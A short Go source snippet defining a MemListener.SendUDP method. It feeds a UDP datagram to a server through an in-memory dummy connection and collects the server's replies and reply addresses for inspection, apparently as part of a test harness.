// SendUDP hands the server one datagram the way the socket listener does: as a
// *listener.DummyUDPConn with a reply function.
func (l *MemListener) SendUDP(local, remote *net.UDPAddr, payload []byte) *Datagram {
	d := &Datagram{}
	buf := append([]byte(nil), payload...)
	l.push(&listener.DummyUDPConn{
		Buffer: buf,
		Laddr:  local,
		Raddr:  remote,
		Fn: func(b []byte, addr *net.UDPAddr) (int, error) {
			d.mu.Lock()
			d.Replies = append(d.Replies, append([]byte(nil), b...))
			d.To = append(d.To, addr)
			d.mu.Unlock()
			return len(b), nil
		},
	})
	return d
}
